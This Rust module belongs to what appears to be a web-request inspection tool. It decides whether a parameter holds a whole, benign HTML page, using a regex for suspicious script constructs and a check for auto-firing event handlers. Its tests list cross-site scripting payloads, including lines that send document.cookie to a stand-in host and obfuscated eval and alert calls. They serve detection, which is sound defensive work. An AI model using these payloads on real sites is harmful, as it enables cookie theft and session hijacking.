//! Whole pages, as editors, mailers, archives and printers take them: a document with its own head, whose
//! scripts do what pages do. A page is no piece of another one, and where a parameter takes whole pages,
//! that they load scripts is no news.

use super::event::is_event;
use super::markup::find;
use crate::decode::Value;
use crate::inspect::built::Built;
use crate::inspect::Part;
use regex::bytes::{Regex, RegexBuilder};

/// Shortest page that has anything to say. Units: bytes.
const SHORTEST: usize = 200;
/// How much of a page's start and end tells that it is one. Units: bytes.
const HEAD: usize = 1024;
const END: usize = 64;

/// What the names of parameters hold that take pages, in JSON and in forms.
const TAKING: [&[u8]; 4] = [b"html", b"layout", b"markup", b"template"];
/// Words among those of names in JSON that take anything, pages as well.
const OFTEN: [&[u8]; 4] = [b"body", b"content", b"page", b"source"];

/// What is put into others' pages and a page of one's own need not do: read what a browser keeps, call by
/// another name, lead away, hide.
const SPYING: &str = concat!(
    "\\bcookie\\b|\\b(?:alert|confirm|eval|prompt)\\b|\\b(?:atob|import|settimeout)\\s*[(`]\\s*[^f(]|\\bsendbeacon\\b",
    "|\\bfetch\\s*\\(\\s*(?:['\"](?:https?:)?//|`)|fromcharcode|tostring\\s*\\(\\s*3|\\bsrcdoc\\b",
    "|\\b(?:local|session)storage\\b|\\bnew\\s*\\(|\\bnew\\s+(?:function|image)\\b|\\bfunction\\s*\\(\\s*['\"`]",
    "|\\b(?:document|frames|globalthis|navigator|parent|self|top|window)\\s*\\[|\\blocation(?:\\.href)?\\s*=[^=]|\\blocation\\.(?:assign|replace)\\s*\\(",
    "|(?:java|vb)script:|data:text/html|<(?:base|object|embed|applet)\\b|http-equiv\\s*=\\s*[\"']?\\s*refresh",
    "|<script[^>]*\\bsrc\\s*=\\s*[^\"'\\s]",
);

/// Events that wait for who reads the page.
const AWAITED: [&[u8]; 5] = [b"change", b"click", b"input", b"key", b"submit"];

/// Tells a whole page where pages are taken, whose scripts neither read what is another's nor hide what
/// they do. Cost: two passes over a page.
pub fn is_page(value: &Value<'_>) -> bool {
    let text = value.bytes;
    takes_pages(value) && is_whole(text.trim_ascii()) && !spies(text) && !handles_other_events(text)
}

/// JSON, forms and bodies, under a name for it.
fn takes_pages(value: &Value<'_>) -> bool {
    let mut names = value.name.rsplit(|b| *b == b'.').take(2);
    let takes = |name: &[u8]| TAKING.iter().any(|word| find(name, word));
    match value.part {
        Part::Body => value.name.is_empty(),
        Part::Json => names.any(|name| takes(name) || words(name).any(is_often)),
        Part::Form => names.any(takes),
        _ => false,
    }
}

fn is_often(word: &[u8]) -> bool {
    OFTEN.iter().any(|often| word.eq_ignore_ascii_case(often))
}

/// The words of a name: `pageContent`, `response_body`.
fn words(name: &[u8]) -> impl Iterator<Item = &[u8]> {
    let starts = |before: &u8, byte: &u8| {
        !byte.is_ascii_alphanumeric() || byte.is_ascii_uppercase() && !before.is_ascii_uppercase()
    };
    name.chunk_by(move |before, byte| !starts(before, byte))
        .map(|word| {
            word.strip_prefix(b"_")
                .or(word.strip_prefix(b"-"))
                .unwrap_or(word)
        })
}

/// Tells a document from its type or root to the root's end, with a title or a character set.
fn is_whole(text: &[u8]) -> bool {
    let head = &text[..text.len().min(HEAD)];
    let starts = |word: &[u8]| {
        head.get(..word.len())
            .is_some_and(|start| start.eq_ignore_ascii_case(word))
    };
    text.len() >= SHORTEST
        && (starts(b"<!doctype html") || starts(b"<html"))
        && find(head, b"<head")
        && (find(head, b"<title") || find(head, b"<meta"))
        && find(&text[text.len() - END..], b"</html>")
}

fn spies(text: &[u8]) -> bool {
    spying().is_none_or(|regex| regex.is_match(text))
}

/// Builds what a page is searched with.
pub fn prepare() {
    spying();
}

fn spying() -> Option<&'static Regex> {
    static REGEX: Built<Option<Regex>> = Built::new();
    let regex = REGEX.get_or(|| {
        let builder = RegexBuilder::new(SPYING)
            .unicode(false)
            .case_insensitive(true)
            .build();
        builder.ok()
    });
    regex.as_ref()
}

/// Tells a handler of an event that comes about by itself, `onerror=`, `onfocus=`.
fn handles_other_events(text: &[u8]) -> bool {
    memchr::memchr_iter(b'=', text).any(|equals| {
        let left = text[..equals].trim_ascii_end();
        let letter = |b: &&u8| b.is_ascii_alphabetic();
        let name = left.iter().rev().take(24).take_while(letter).count();
        let name = &left[left.len() - name..];
        let event = name
            .get(2..)
            .filter(|_| name[..2].eq_ignore_ascii_case(b"on"));
        let awaited = |event: &[u8]| AWAITED.iter().any(|a| find(event, a));
        event.is_some_and(|event| event.len() > 2 && is_event(event) && !awaited(event))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::testing;

    fn page(script: &str) -> String {
        format!(
            "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>Summer sale</title>\n\
             <link rel=\"stylesheet\" href=\"https://cdn.example/a.css\">\n</head>\n<body>\n<h1>Hello</h1>\n\
             <p>All that you need for the beach.</p>\n{script}\n</body>\n</html>\n"
        )
    }

    fn is_one(part: Part, name: &[u8], text: &str) -> bool {
        is_page(&Value {
            part,
            name,
            ..testing::value(text.as_bytes())
        })
    }

    #[test]
    fn pages_may_have_scripts() {
        for script in [
            "",
            "<script src=\"https://cdn.example/jquery.js\"></script>",
            "<script>document.querySelector('.x').addEventListener('click', open)</script>",
            "<button onclick=\"toggle()\">Menu</button>",
        ] {
            let page = page(script);
            assert!(is_one(Part::Json, b"data.html", &page), "{script}");
            assert!(is_one(Part::Form, b"HtmlBody", &page), "{script}");
            assert!(is_one(Part::Body, b"", &page), "{script}");
            assert!(
                is_one(Part::Json, b"pages.response_body", &page),
                "{script}"
            );
            assert!(is_one(Part::Json, b"page.sourceText", &page), "{script}");
            let others = [
                (Part::Json, &b"comment"[..]),
                (Part::Json, b"homepage"),
                (Part::Json, b"resources.value"),
                (Part::Form, b"content"),
                (Part::Query, b"html"),
            ];
            for (part, name) in others {
                assert!(!is_one(part, name, &page), "{script}");
            }
        }
    }

    #[test]
    fn what_spies_hides_in_no_page() {
        for script in [
            "<script>fetch('//a.example/?'+document.cookie)</script>",
            "<script>new Image().src='//a.example/?'+document['cookie']</script>",
            "<script>alert(1)</script>",
            "<script>fetch('/x?' + document['cookie'])</script>",
            "<script>eval(atob('YWxlcnQoMSk='))</script>",
            "<img src=x onerror=go()>",
            "<svg/onload = go()>",
            "<script src=//a.example/x.js></script>",
            "<script>location='//a.example/?'+document['coo'+'kie']</script>",
            "<script>window['al'+'ert'](1)</script>",
            "<script>eval.call(0, name)</script>",
            "<script>setTimeout(name)</script>",
            "<script>location.replace('//a.example/?'+document.title)</script>",
            "<meta http-equiv=refresh content='0;url=//a.example'>",
            "<base href=//a.example>",
            "<a href=\"javascript:go()\">x</a>",
        ] {
            assert!(!is_one(Part::Json, b"html", &page(script)), "{script}");
        }
        for text in [
            "<!doctype html><html><head><title>x</title></head><script src=//a.example></script></html>",
            &page("").replace("</html>", ""),
            &format!("x{}", page("<script src=//a.example></script>")),
            &page("").replace("<head>", ""),
        ] {
            assert!(!is_one(Part::Json, b"html", text), "{text}");
        }
    }
}
